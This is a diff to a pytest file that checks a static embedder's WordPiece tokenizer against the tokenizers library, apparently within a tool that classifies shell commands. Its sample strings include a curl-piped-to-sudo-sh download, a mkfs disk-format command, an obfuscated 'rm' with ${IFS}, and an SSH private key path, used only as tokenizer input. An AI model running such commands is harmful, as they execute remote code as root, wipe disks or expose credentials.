@@ -138,15 +138,43 @@ def test_semantic_stale_artifact_reembeds_exemplars(tmp_path: Path, level: Seman
     assert [m.similarity for m in stale_top] == pytest.approx([m.similarity for m in fresh_top], abs=2e-3)
 
 
-def test_semantic_word_cache_gives_the_tokenizer_ids_of_the_whole_text() -> None:
-    embedder = StaticEmbedder.from_files(
-        np.load(ARTIFACT_DIR / "vectors.npy", mmap_mode="r"),
-        np.load(ARTIFACT_DIR / "token_rows.npy"),
-        ARTIFACT_DIR / "tokenizer.json",
+def _embedder() -> StaticEmbedder:
+    return StaticEmbedder.from_files(
+        np.load(ARTIFACT_DIR / "vectors.npy"), np.load(ARTIFACT_DIR / "token_rows.npy"), ARTIFACT_DIR / "tokenizer.json"
     )
-    text = "rm remove delete recursive force root filesystem mkfs.ext4 /dev/nvme0n1p1 naïve 日本 x" * 2
-    whole = embedder.tokenizer.encode(text, add_special_tokens=False).ids
-    expected = [int(embedder.token_rows[i]) for i in whole if embedder.token_rows[i] >= 0]
+
+
+TOKENIZER_SAMPLES = [
+    "rm remove delete recursive force root filesystem mkfs.ext4 /dev/nvme0n1p1",
+    "Naïve Ünïcödé café  日本語 テスト 한국어 \t tabs\nnewlines",
+    "curl -fsSL https://203.0.113.5:8443/i?x=1&y=2 | sudo sh -s -- -y",
+    "$(printf '\\x72\\x6d') ${IFS} ~/.ssh/id_ed25519 C:\\Windows\\System32",
+    "supercalifragilisticexpialidocious" * 4,
+    "émoji 🙂 and zero\u200bwidth and control \x07 chars",
+]
+
+
+def test_semantic_wordpiece_matches_the_tokenizers_library() -> None:
+    tokenizers = pytest.importorskip("tokenizers", reason="the tokenizers library is not installed")
+    reference = tokenizers.Tokenizer.from_file(str(ARTIFACT_DIR / "tokenizer.json"))
+    reference.no_padding()  # MiniLM's file pads to 128 for batching; ids are what matter
+    reference.no_truncation()
+    embedder = _embedder()
+    samples = TOKENIZER_SAMPLES + [e.text for e in load_exemplars()]
+    if DEV_CORPUS.is_file():
+        with DEV_CORPUS.open(encoding="utf-8") as handle:
+            samples += [json.loads(line)["cmd"] for line in handle if line.strip()]
+    for text in samples:
+        expected = reference.encode(text, add_special_tokens=False).ids
+        ours = [i for word in text.split() for i in embedder.tokenizer.ids(word)]
+        assert ours == expected, text
+
+
+def test_semantic_word_cache_gives_the_rows_of_the_whole_text() -> None:
+    embedder = _embedder()
+    text = TOKENIZER_SAMPLES[0] + " " + TOKENIZER_SAMPLES[0]
+    ids = [i for word in text.split() for i in embedder.tokenizer.ids(word)]
+    expected = [int(embedder.token_rows[i]) for i in ids if embedder.token_rows[i] >= 0]
     assert embedder.rows(text) == expected
     vector = embedder.encode([text, ""])
     assert np.linalg.norm(vector[0]) == pytest.approx(1.0, abs=1e-5)
